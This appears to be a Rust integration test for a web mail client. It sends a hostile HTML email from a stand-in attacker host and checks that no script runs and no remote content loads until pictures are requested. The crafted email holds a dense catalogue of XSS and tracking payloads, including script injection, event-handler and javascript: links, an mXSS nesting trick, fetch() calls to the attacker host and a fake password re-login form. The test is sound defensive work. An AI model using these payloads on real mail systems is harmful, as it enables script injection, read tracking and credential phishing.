//! What a stranger wrote runs nothing and tells nobody, until a person asks for its pictures.

use std::time::Duration;

use crate::desk;
use crate::support::attacker::Attacker;
use crate::support::browser::Browser;
use crate::support::program::Program;

/// Every way to run or load something that mail readers have fallen for.
fn letter(address: &str, to: &str) -> String {
    let evil = format!("http://{address}");
    let run = "top.document.title='taken over';parent.window.hacked=1;window.hacked=1";
    format!(
        r#"From: Mallory <mallory@attacker.example>
To: {to}
Subject: Invoice "><script>window.hacked=1</script>
Message-ID: <hostile@attacker.example>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><head><base href="{evil}/base/"><meta http-equiv="refresh" content="0;url={evil}/refresh">
<link rel="stylesheet" href="{evil}/link.css"><style>@import "{evil}/import.css";
body {{ background: url({evil}/style.png) }} #words::before {{ content: url({evil}/before.png) }}
@font-face {{ font-family: f; src: url({evil}/font.woff) }} #words {{ font-family: f }}</style>
<script src="{evil}/script.js"></script><script>{run};fetch('{evil}/fetch')</script></head>
<body onload="{run}" background="{evil}/background.png"><p id="words">The words of Mallory</p>
<img src="{evil}/picture.png" onerror="{run}"><img src=x onerror="{run};fetch('{evil}/error')">
<img srcset="{evil}/set.png 1x" src="{evil}/second.png"><picture><source srcset="{evil}/source.png"></picture>
<svg onload="{run}"><script>{run}</script><image href="{evil}/svg.png"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror="{run}"></style></mglyph></table></mtext></math>
<iframe src="{evil}/frame"></iframe><iframe srcdoc="<script>top.hacked=1</script>"></iframe>
<object data="{evil}/object"></object><embed src="{evil}/embed"><video src="{evil}/video" poster="{evil}/poster.png"></video>
<audio src="{evil}/audio" autoplay></audio><input type="image" src="{evil}/input.png">
<div style="background-image:url('{evil}/div.png');position:fixed;inset:0">over everything</div>
<table background="{evil}/table.png"><tr><td background="{evil}/cell.png">cell</td></tr></table>
<form action="{evil}/form"><input name="password"><button id="trap">Sign in again</button></form>
<a id="link" href="javascript:{run}">a link</a> <a href="data:text/html,<script>{run}</script>">another</a>
<details open ontoggle="{run}"><summary>more</summary></details>
<p>&lt;script&gt;shown as text&lt;/script&gt;</p></body></html>
"#
    )
    .replace('\n', "\r\n")
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_mail_runs_no_script_and_loads_nothing_until_pictures_are_asked_for() {
    let attacker = Attacker::start();
    let (program, simulator, demo) = Program::serve();
    let raw = letter(&attacker.address.to_string(), &demo.support_address);
    assert!(
        simulator
            .world()
            .deliver(&demo.support_address, raw.as_bytes())
    );
    let browser = Browser::start().await;
    desk::sign_in(&browser, &program).await;
    desk::connect(&browser, &program).await;
    browser.go(&program.url).await;
    browser.click_with(desk::SUBJECT, "Invoice").await;
    browser.enter_frame("iframe.mail").await;
    browser.see_with("body", "The words of Mallory").await;
    let left = browser
        .all("script, iframe, object, embed, form, input, base, meta[http-equiv], link[href*='127.0.0.1'], a[href^='javascript'], a[href^='data']")
        .await;
    assert_eq!(left.len(), 0, "dangerous elements are left");
    browser.leave_frame().await;
    calm(&browser).await;
    browser.picture("hostile/conversation").await;
    assert_eq!(
        attacker.asked(),
        Vec::<String>::new(),
        "it learnt that it was read"
    );

    // By its own address, without our page around it, it is as tame.
    let conversation = browser.address().await;
    let frame = browser.see("iframe.mail").await.attr("src").await.unwrap();
    browser
        .go(&format!("{}{}", program.url, frame.unwrap()))
        .await;
    browser.see_with("body", "The words of Mallory").await;
    calm(&browser).await;
    assert_eq!(
        attacker.asked(),
        Vec::<String>::new(),
        "it learnt that it was read"
    );

    // Asked for, pictures come, and nothing else does.
    browser.go(&conversation).await;
    browser
        .click_with(".picture-bar button", "Show pictures")
        .await;
    browser.enter_frame("iframe.mail").await;
    browser.see("img[src*='picture.png']").await;
    browser.leave_frame().await;
    calm(&browser).await;
    let is_picture = |line: &&String| line.starts_with("GET /picture.png ");
    for _ in 0..100 {
        if attacker.asked().iter().any(|line| is_picture(&line)) {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let asked = attacker.asked();
    assert!(
        asked.iter().any(|line| is_picture(&line)),
        "the picture was asked for, but only this came: {asked:?}"
    );
    let others: Vec<_> = asked
        .iter()
        .filter(|head| {
            !head
                .lines()
                .next()
                .is_some_and(|line| line.contains(".png "))
        })
        .collect();
    assert!(others.is_empty(), "more than pictures came: {others:?}");
    browser.picture("hostile/with-pictures").await;
    browser.end().await;
}

/// No script of the mail has left a trace in the page.
async fn calm(browser: &Browser) {
    // Nothing tells that nothing will happen: what would run or load has this long to do it.
    tokio::time::sleep(Duration::from_millis(500)).await;
    let traces = browser
        .run("return [typeof window.hacked, document.title, ...Array.from({ length: frames.length }, (_, at) => typeof frames[at].hacked)].join(' ')")
        .await;
    assert!(!traces.as_str().unwrap().contains("number"), "{traces}");
    assert!(!traces.as_str().unwrap().contains("taken over"), "{traces}");
}
